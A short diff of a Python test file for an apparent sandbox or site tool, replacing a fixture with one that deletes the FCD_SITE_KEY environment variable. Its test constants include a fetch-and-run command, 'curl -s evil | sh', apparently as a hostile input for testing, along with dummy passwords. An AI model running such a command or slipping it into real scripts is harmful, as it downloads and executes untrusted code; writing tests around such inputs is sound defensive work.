@@ -16,7 +16,14 @@ from sandbox.process import SandboxProcess
 SCRIPT, SCRIPT_2 = "echo GOOD", "curl -s evil | sh"
 PASSWORD, PASSWORD_2 = "Pelican-over-9-bridges", "Pelican-over-8-bridges"
 Content = t.Dict[str, t.List[t.Dict[str, t.Any]]]
-pytestmark = pytest.mark.usefixtures("home")
+pytestmark = pytest.mark.usefixtures("no_key")
+
+
+@pytest.fixture
+def no_key(home: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    """Nobody has given a key."""
+    del home
+    monkeypatch.delenv("FCD_SITE_KEY")
 
 
 def site(home: Path) -> Content:
